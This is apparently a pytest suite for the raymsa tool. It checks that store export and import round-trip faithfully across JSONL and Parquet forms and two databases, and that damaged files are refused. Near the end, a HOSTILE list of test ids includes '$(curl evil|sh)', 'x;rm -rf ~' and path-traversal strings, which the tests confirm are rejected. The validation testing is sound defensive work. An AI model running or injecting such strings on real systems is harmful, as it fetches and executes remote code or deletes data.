"""Export and import: what goes out of one store comes into another, through every form and over both databases."""

import hashlib
import json
import math
import random
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import select

from raymsa import orders, queue
from raymsa.cli import main
from raymsa.errors import NotFound, UsageError
from raymsa.store import Store, queries, records, tables
from raymsa.store.exports import export
from raymsa.store.imports import import_
from raymsa.store.rows import ORDER, kinds
from tests import stores
from tests.stores import add_runs, put

FORMS = ["export.jsonl", "folder"]
BACKENDS = ["sqlite"] if stores.NO_POSTGRESQL else ["sqlite", "postgresql"]
CLIP = {"split": "test", "label": 1.0, "score": 0.5, "parsed": True, "in_range": True}
OVER = ("paused", "done", "failed", "cancelled")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(f"{tmp_path}/store.db") as opened:
        yield opened


@pytest.fixture
def other(tmp_path: Path) -> Iterator[Store]:
    with Store.open(f"{tmp_path}/other.db") as opened:
        yield opened


# What a store holds, without the ids that each store gives of its own


def contents(store: Store) -> dict[str, list[Any]]:
    with store.read() as connection:
        names = {row.id: (row.job_id, row.seq) for row in connection.execute(select(tables.tasks))}
        found = {}
        for table in ORDER:
            own = [name for name in ("id",) if table in (tables.tasks, tables.events)]
            tasks = [c.name for c in table.columns if c.references(tables.tasks.c.id) or c.name == "task_id"]
            rows = connection.execute(select(table).order_by(*table.primary_key)).mappings()
            plain = [{k: names.get(v) if k in tasks else _equal(v) for k, v in r.items() if k not in own} for r in rows]
            found[table.name] = plain if own else sorted(plain, key=repr)
    return found


def _equal(value: Any) -> Any:
    return "not a number" if isinstance(value, float) and math.isnan(value) else value


# Any store at all: every column of every table, as tables.py has it today, with values that are easily lost

TEXTS = ["", " ", "null", "NaN", "\\N", 'a "quoted" word', "two\nlines\r\n", "\u2028", "很好", "🙂", "x" * 5000]
NUMBERS = [0.0, -0.0, 0.1, 1 / 3, 5e-324, 1.7e308, -2.5, 1e16 + 2]
NOT_FINITE = [math.nan, math.inf, -math.inf]
PLAIN = [{}, {"a": None, "b": [1, 0.1, "很", True, {"\udc80": "\0"}], "z": 2**70}, {"b": 1, "a": 2.0}]


def any_value(draw: random.Random, column: Any, kind: type) -> Any:
    if column.nullable and draw.random() < 0.2:
        return None
    if kind is float:
        measured = isinstance(column.type, tables.Fact) and column.nullable
        return draw.choice(NUMBERS + NOT_FINITE * measured)
    if kind is int:
        return draw.choice([0, 1, -1, 2**31 - 1, *([2**62] if isinstance(column.type, tables.Count) else [])])
    pools: dict[type, list[Any]] = {bool: [True, False], str: TEXTS, object: PLAIN}
    return draw.choice(pools[kind])


def any_rows(draw: random.Random, table: Any, count: int, **fixed: Callable[[int], Any]) -> list[dict[str, Any]]:
    """Rows with any values but for the fixed columns, which are made from the row's number; no key is there twice."""
    made = {}
    for number in range(count):
        row = {column.name: any_value(draw, column, kinds(table)[column.name]) for column in table.columns}
        row |= {name: make(number) for name, make in fixed.items()}
        made[tuple(row[column.name] for column in table.primary_key)] = row
    return list(made.values())


def fill(store: Store, seed: int) -> None:
    """Jobs, tasks that are over, and all that hangs on them; ids with holes, events of jobs that were removed."""
    draw = random.Random(seed)
    some = {
        "job": draw.randint(0, 5),
        "task": draw.randint(0, 9),
        "run": draw.randint(0, 9),
        "more": draw.randint(0, 40),
    }
    job_ids = [f"{number:08x}" for number in range(some["job"])]
    task_of = {5 + 3 * n: draw.choice(job_ids) for n in range(some["task"] if job_ids else 0)}
    with store.write() as connection:

        def put(table: Any, count: int, **fixed: Callable[[int], Any]) -> list[dict[str, Any]]:
            rows = any_rows(draw, table, count, **fixed)
            if rows:
                connection.execute(table.insert(), rows)
            return rows

        ids, spec = list(task_of), {"spec": lambda n: {**stores.SPEC, "more": draw.choice(PLAIN)}}
        put(tables.jobs, len(job_ids), id=lambda n: job_ids[n], **spec)
        about = {"id": lambda n: ids[n], "job_id": lambda n: task_of[ids[n]], "seq": lambda n: n}
        put(tables.tasks, len(ids), **about, state=lambda n: draw.choice(OVER))
        put(
            tables.waits,
            some["task"] if ids else 0,
            task_id=lambda n: draw.choice(ids),
            after_id=lambda n: draw.choice(ids),
        )
        with_task = {
            "task_id": lambda n: draw.choice([None, ids[n % len(ids)]]),
            "job_id": lambda n: task_of[ids[n % len(ids)]],
        }
        with_task |= {"state": lambda n: "done", "group_key": lambda n: f"{n % 3:016x}"}
        runs = put(tables.runs, some["run"] if ids else 0, **with_task, **spec, id=lambda n: f"run-{n}")
        for table in (tables.steps, tables.finals, tables.predictions, tables.artifacts):
            put(table, some["more"] if runs else 0, run_id=lambda n: draw.choice(runs)["id"])
        chosen: list[Any] = [draw.choice([None, "removed", *ids]) for _ in range(some["more"])]
        told = {
            "job_id": lambda n: task_of.get(chosen[n], chosen[n]),
            "task_id": lambda n: chosen[n] if chosen[n] in task_of else None,
        }
        put(tables.events, some["more"], id=lambda n: 7 * n + 1, **told)


@pytest.mark.parametrize("seed", range(6))
def test_any_store_is_the_same_after_going_through_both_forms_and_both_databases(seed: int, tmp_path: Path) -> None:
    with Store.open(f"{tmp_path}/first.db") as first:
        fill(first, seed)
        before = contents(first)
        export(first, tmp_path / "1.jsonl")
    with stores.fresh_url(BACKENDS[-1], tmp_path) as url, Store.open(url) as middle:
        import_(middle, tmp_path / "1.jsonl", "eve")
        assert contents(middle) == before
        export(middle, tmp_path / "2")
    with Store.open(f"{tmp_path}/last.db") as last:
        import_(last, tmp_path / "2", "eve")
        assert contents(last) == before
        assert import_(last, tmp_path / "1.jsonl", "eve").jobs == 0  # once more: nothing is there twice
        assert contents(last) == before


# Which jobs, and what becomes of them


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("backend", BACKENDS)
def test_only_the_jobs_that_are_named_go_out_with_all_that_hangs_on_them(
    backend: str, form: str, tmp_path: Path, other: Store
) -> None:
    with stores.fresh_url(backend, tmp_path) as url, Store.open(url) as store:
        first, second, third = (put(store, name, tasks=2) for name in ("first", "second", "third"))
        add_runs(store, first, "r1")
        add_runs(store, second, "r2")
        records.record_steps(store, "r1", [stores.entry(1, {"loss": 1.0})])
        records.record_steps(store, "r2", [stores.entry(1, {"loss": 2.0})])
        (task, *_) = queries.tasks(store, second)
        with store.write() as connection:  # `after: third`, which does not come along
            for other_job in (first, third):
                after_id = queries.tasks(store, other_job)[-1].id
                connection.execute(tables.waits.insert().values(task_id=task.id, after_id=after_id))
        rows = export(store, tmp_path / form, [first, second])
        assert (rows["jobs"], rows["tasks"], rows["waits"], rows["runs"], rows["steps"]) == (2, 4, 3, 2, 2)
    made = import_(other, tmp_path / form, "eve")
    assert {job.name for job in queries.jobs(other)} == {"first", "second"}
    assert made.rows["events"] == len([e for e in queries.events(other) if e.what != "paused"]) == 6


def claim(store: Store) -> queries.Task:
    task = queue.claim(store, "ann", 60)
    assert task is not None
    return task


def test_what_was_not_over_comes_in_paused_and_says_so(store: Store, other: Store, tmp_path: Path) -> None:
    put(other, "mine")  # so that the tasks' ids differ
    job_id = put(store, "theirs", tasks=3, deadline_s=60)
    add_runs(store, job_id, "r1")
    queue.finish(store, claim(store))
    claim(store)
    orders.cancel(store, job_id, "bob")
    records.start_run(store, "r1")
    with store.write() as connection:  # as if the third had come after the cancel
        third = tables.tasks.update().where(tables.tasks.c.seq == 2)
        connection.execute(third.values(state="queued", finished_at=None))
    export(store, tmp_path / "1.jsonl")
    made = import_(other, tmp_path / "1.jsonl", "eve")
    assert (made.jobs, made.already_there, made.paused) == (1, 0, 2)
    tasks = queries.tasks(other, job_id)
    assert [(t.state, t.lease_until, t.asked, t.deadline) for t in tasks[1:]] == [("paused", None, None, None)] * 2
    assert queries.run(other, "r1").state == "queued"
    told = [(event.task_id, event.detail, event.who) for event in queries.events(other) if event.what == "paused"]
    assert told == [(tasks[1].id, "imported; it was running", "eve"), (tasks[2].id, "imported; it was queued", "eve")]
    mine = queue.claim(other, "zoe", 60)
    assert mine is not None and mine.job_id != job_id
    assert queue.claim(other, "zoe", 60) is None  # nothing starts by surprise
    assert orders.resume(other, job_id, "eve") == 2
    assert [queue.claim(other, "zoe", 60).id, queue.claim(other, "zoe", 60)] == [tasks[1].id, None]  # type: ignore


def test_jobs_that_are_there_stay_as_they_are_and_others_still_wait_for_them(
    store: Store, other: Store, tmp_path: Path
) -> None:
    first = put(store, "first")
    export(store, tmp_path / "early.jsonl")
    put(other, "mine")
    import_(other, tmp_path / "early.jsonl", "eve")
    orders.cancel(other, first, "eve")
    before = contents(other)
    second = put(store, "second", after=[task.id for task in queries.tasks(store, first)])
    export(store, tmp_path / "late")
    made = import_(other, tmp_path / "late", "eve")
    assert (made.jobs, made.already_there) == (1, 1)
    for name, rows in contents(other).items():
        assert [row for row in rows if row in before[name]] == before[name]
    assert [task.job_id for task in queries.awaited(other, second)] == [first]


# Whole or not at all


@pytest.mark.parametrize("form", FORMS)
def test_an_export_leaves_what_is_there_alone(form: str, store: Store, tmp_path: Path) -> None:
    export(store, tmp_path / "deep" / form)
    with pytest.raises(UsageError, match="is there already; name another"):
        export(store, tmp_path / "deep" / form)
    assert [path.name for path in (tmp_path / "deep").iterdir()] == [form]


@pytest.mark.parametrize("form", FORMS)
def test_a_disk_that_is_full_leaves_nothing_and_is_told_in_one_line(form: str, store: Store, tmp_path: Path) -> None:
    put(store, "big" * 100_000)
    code = (
        "import resource, signal, sys; from pathlib import Path; from raymsa.store import Store, exports\n"
        "store = Store.open(sys.argv[1])\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); resource.setrlimit(resource.RLIMIT_FSIZE, (20000, 20000))\n"
        "try: exports.export(store, Path(sys.argv[2]))\n"
        "except Exception as error: print(type(error).__name__, error)"
    )
    (tmp_path / "to").mkdir()
    told = python(code, str(store), str(tmp_path / "to" / form))
    assert told == f"RaymsaError {tmp_path}/to/{form}: cannot be written: File too large\n"
    assert list((tmp_path / "to").iterdir()) == []


def go_through(folder: str, form: str) -> None:
    """Prints by how many MB a store four times as large raises the peak of this process."""
    import resource

    peaks = []
    for count in (1, 4):
        with Store.open(f"{folder}/{count}.db") as store, Store.open(f"{folder}/{count}-other.db") as other:
            add_runs(store, put(store), *(f"r{n}" for n in range(count)))
            for number in range(count):
                clips = [{**CLIP, "clip_id": f"clip {n}"} for n in range(10_000)]
                records.finish_run(store, f"r{number}", {}, {}, clips)
            export(store, Path(f"{folder}/{count}-{form}"))
            assert import_(other, Path(f"{folder}/{count}-{form}"), "eve").rows["predictions"] == 10_000 * count
        peaks.append(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)
    print(peaks[1] - peaks[0])


@pytest.mark.parametrize("form", FORMS)
def test_the_memory_it_takes_does_not_grow_with_the_store(form: str, tmp_path: Path) -> None:
    code = "import sys; from tests.test_exports import go_through; go_through(*sys.argv[1:])"
    ended = python(code, str(tmp_path), form)
    assert float(ended) < 12  # MB; the rows that are more, as Python has them, take more than 20


def python(code: str, *arguments: str) -> str:
    """What another process prints."""
    command = [sys.executable, "-c", code, *arguments]
    return subprocess.run(command, cwd=stores.ROOT, stdout=subprocess.PIPE, text=True, timeout=300, check=True).stdout


# What is damaged, foreign or of another version is told with its place, and changes nothing


PHOTO = b'{"table": "photos", "row": {}}\n'


def lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def without_end(given: list[bytes]) -> list[bytes]:
    return given[:-1]


def one_line_less(given: list[bytes]) -> list[bytes]:
    return [*given[:-2], given[-1]]


def flipped(given: list[bytes]) -> list[bytes]:
    return [line.replace(b'"seed": 1', b'"seed": 7') for line in given]


def in_row(name: bytes, text: bytes) -> Callable[[list[bytes]], list[bytes]]:
    """The first row of runs, with another value in a column."""

    def change(given: list[bytes]) -> list[bytes]:
        number = next(n for n, line in enumerate(given) if b'{"table": "runs"' in line)
        row = json.loads(given[number])
        row["row"][name.decode()] = "HERE"
        given[number] = json.dumps(row).encode().replace(b'"HERE"', text) + b"\n"
        return given

    return change


def in_header(**other: Any) -> Callable[[list[bytes]], list[bytes]]:
    return lambda given: [json.dumps({**json.loads(given[0]), **other}).encode() + b"\n", *given[1:]]


def twice(given: list[bytes]) -> list[bytes]:
    return [*(line for line in given for _ in range(2 if b'"runs"' in line and b"r1" in line else 1))]


def job_left_out(given: list[bytes]) -> list[bytes]:
    return [line for line in given if b'{"table": "jobs"' not in line]


NOW = {table.name: [column.name for column in table.columns] for table in ORDER}


@pytest.mark.parametrize(
    ("damage", "problem"),
    [
        (lambda given: [], "it ends in the middle"),
        (lambda given: [b"\x7fELF\x00\xff" * 1000], "line 1: the line is cut off"),
        (lambda given: [b"clip,label\n", b"a,1\n"], "line 1: this is not JSON"),
        (lambda given: [b"[1, 2]\n"], "line 1: this is no export of a raymsa store"),
        (lambda given: [b"[" * 100_000 + b"\n"], "line 1: this is not JSON"),
        (without_end, "it ends in the middle: the rest is missing"),
        (lambda given: [*given[:-2], given[-2][:-9]], r"line \d+: the line is cut off"),
        (one_line_less, r"line \d+: rows are missing: \d+ were written, \d+ are here"),
        (lambda given: [*given, given[-2]], r"line \d+: there is more after the end"),
        (flipped, r"line \d+: the lines are not those that were written"),
        (
            lambda given: [*given[:3], PHOTO, *given[3:]],
            "line 4: this is no row of a table",
        ),
        (lambda given: [*given[:3], b"17\n", *given[3:]], "line 4: this is no row of a table"),
        (lambda given: [*given[:3], b'{"table": "jobs", "row": 1}\n', *given[3:]], "line 4: a row is an object"),
        (in_row(b"seed", b'"one"'), "'seed' is \"one\", which is not a whole number"),
        (in_row(b"wall_s", b'"long"'), "'wall_s' is \"long\", which is not a number"),
        (in_row(b"state", b"null"), "'state' is null"),
        (in_row(b"job_id", b'"12345678"'), "it belongs to '12345678' of jobs, which is not in this export"),
        (in_row(b"peak", b"1"), "unknown column 'peak'"),
        (in_row(b"spec", b'{"lr": NaN}'), "this is not JSON"),
        (in_row(b"attempts", b"99999999999999999999"), "'attempts' is 99999999999999999999, which is too large"),
        (job_left_out, "it belongs to '[0-9a-f]{8}' of jobs, which is not in this export"),
        (twice, "cannot be stored: .*(UNIQUE|unique)"),
        (in_header(format=2), "line 1: it has format 2 and this raymsa reads 1: upgrade raymsa"),
        (in_header(schema="0999", tables={**NOW, "runs": [*NOW["runs"], "mood"]}), "version 0999.* knows no runs.mood"),
        (in_header(schema="0001", tables={**NOW, "runs": NOW["runs"][1:]}), "version 0001.* needs runs.id"),
    ],
)
def test_a_file_that_is_not_as_it_was_written_is_refused_with_its_line(
    damage: Callable[[list[bytes]], list[bytes]], problem: str, store: Store, other: Store, tmp_path: Path
) -> None:
    path = tmp_path / "1.jsonl"
    add_runs(store, put(store, tasks=2), "r1", "r2")
    export(store, path)
    path.write_bytes(b"".join(damage(lines(path))))
    with pytest.raises(UsageError, match=problem) as caught:
        import_(other, path, "eve")
    assert str(caught.value).startswith(f"{path}: ") and "\n" not in str(caught.value)
    assert not any(contents(other).values())


def test_a_folder_that_is_not_as_it_was_written_is_refused_with_its_file(
    store: Store, other: Store, tmp_path: Path
) -> None:
    add_runs(store, put(store, tasks=2), "r1", "r2")
    whole = tmp_path / "whole"
    export(store, whole)
    runs = (whole / "runs.parquet").read_bytes()
    middle = runs.index(b"disc")  # a value, in its page
    damages = {
        b"": "is damaged",
        runs[: len(runs) // 2]: "is damaged",
        runs[:middle] + bytes([runs[middle] ^ 1]) + runs[middle + 1 :]: "is damaged",
        b"not Parquet": "is damaged",
    }
    for number, (bytes_, problem) in enumerate(damages.items()):
        folder = tmp_path / str(number)
        folder.mkdir()
        for file in whole.iterdir():
            (folder / file.name).write_bytes(bytes_ if file.name == "runs.parquet" else file.read_bytes())
        with pytest.raises(UsageError, match=problem) as caught:
            import_(other, folder, "eve")
        assert str(caught.value).startswith(f"{folder}/runs.parquet: ") and "\n" not in str(caught.value)
    (whole / "runs.parquet").unlink()
    with pytest.raises(UsageError, match=r"runs\.parquet: is missing: this is no whole export"):
        import_(other, whole, "eve")
    pq.write_table(pq.read_table(whole / "tasks.parquet").replace_schema_metadata({}), whole / "jobs.parquet")
    with pytest.raises(UsageError, match=r"jobs\.parquet: this is no export of a raymsa store"):
        import_(other, whole, "eve")
    with pytest.raises(NotFound, match="no such file or folder"):
        import_(other, tmp_path / "nowhere", "eve")
    assert not any(contents(other).values())


def test_an_export_of_a_store_that_lacked_columns_and_tables_of_today_is_read(
    store: Store, other: Store, tmp_path: Path
) -> None:
    """As long as they can be empty, or have a default: this is how an older raymsa's file looks."""
    add_runs(store, put(store), "r1")
    path = tmp_path / "1.jsonl"
    export(store, path)
    lacking = ("failures", "place")
    older = {name: [c for c in columns if c not in lacking] for name, columns in NOW.items() if name != "waits"}
    begin, *rows, end = map(json.loads, lines(path))
    kept = [row for row in rows if row["table"] in older]
    for row in kept:
        row["row"] = {name: value for name, value in row["row"].items() if name in older[row["table"]]}
    text = b"".join(json.dumps(line).encode() + b"\n" for line in [{**begin, "tables": older}, *kept])
    end["sha256"] = hashlib.sha256(text).hexdigest()
    path.write_bytes(text + json.dumps(end).encode() + b"\n")
    import_(other, path, "eve")
    run = queries.run(other, "r1")
    assert (run.failures, run.place) == (0, None)


# The commands


def call(*words: str) -> Result:
    result = CliRunner().invoke(main, list(words), prog_name="raymsa")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def test_a_store_goes_to_another_machine_by_export_and_import(store: Store, tmp_path: Path) -> None:
    add_runs(store, put(store, "first"), "r1")
    queue.finish(store, claim(store))
    waiting, source = put(store, "second"), ["--store", str(store)]
    for form in ("all.jsonl", "all"):
        target = ["--store", f"{tmp_path}/{form}.db"]
        result = call("store", "export", str(tmp_path / form), *source, "--json")
        assert (result.exit_code, json.loads(result.stdout)["rows"]["jobs"]) == (0, 2), result.stderr
        assert "2 jobs, 1 runs, " in result.stderr
        result = call("store", "import", str(tmp_path / form), *target, "--json")
        assert result.exit_code == 0, result.stderr
        told = json.loads(result.stdout)
        assert (told["jobs"], told["already_there"], told["paused"]) == (2, 0, 1)
        assert "1 of their tasks are paused; `raymsa resume JOB` lets them go on" in result.stderr
        assert "0 jobs taken in, 2 were there already" in call("store", "import", str(tmp_path / form), *target).stderr
        assert call("status", waiting, *target).exit_code == 0
    assert (
        call("store", "export", str(tmp_path / "one.jsonl"), waiting[:6], *source).stdout == f"{tmp_path}/one.jsonl\n"
    )
    assert len([1 for line in (tmp_path / "one.jsonl").open() if '{"table": "jobs"' in line]) == 1
    result = call("store", "export", str(tmp_path / "one.jsonl"), *source)
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
    assert call("store", "export", str(tmp_path / "two.jsonl"), "nobody", *source).exit_code == 102
    result = call("store", "import", str(tmp_path / "nowhere"), "--store", f"{tmp_path}/new.db")
    assert result.exit_code == 2 and not (tmp_path / "new.db").exists()


HOSTILE = [
    "../../ada",
    "/srv/ada",
    "..",
    "",
    "a\0",
    "$(curl evil|sh)",
    "x;rm -rf ~",
    "a b",
    "-rf",
    "\x1b[2J",
    "a\n",
    "\u202egp",
]


def refused(other: Store, path: Path) -> str:
    with pytest.raises(UsageError) as told:
        import_(other, path, "eve")
    assert queries.jobs(other) == [] and str(told.value).isprintable()
    return str(told.value)


@pytest.mark.parametrize("given", [*HOSTILE, "r" * 300])
def test_an_id_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
    add_runs(store, put(store), given)  # `raymsa rm` would remove what it names, and people paste commands
    export(store, tmp_path / "bad.jsonl")
    assert f"{given[:80]!a} is no id of runs" in refused(other, tmp_path / "bad.jsonl")


@pytest.mark.parametrize("given", [*HOSTILE, "0123456789ABCDEF", "0" * 15, "0" * 17])
def test_a_group_key_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
    add_runs(store, put(store), "r1")
    with store.write() as connection:
        connection.execute(tables.runs.update().values(group_key=given))
    export(store, tmp_path / "bad.jsonl")
    assert f"{given!a} is no group_key of runs" in refused(other, tmp_path / "bad.jsonl")


@pytest.mark.parametrize("given", ["../x", "x;sh", "0123456", "0123456G", "\x1b[2Jabcd"])
def test_a_jobs_id_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
    put(store)
    with store.write() as connection:
        connection.execute(tables.events.delete())
        connection.execute(tables.tasks.delete())
        connection.execute(tables.jobs.update().values(id=given))
    export(store, tmp_path / "bad.jsonl")
    assert f"{given!a} is no id of jobs" in refused(other, tmp_path / "bad.jsonl")
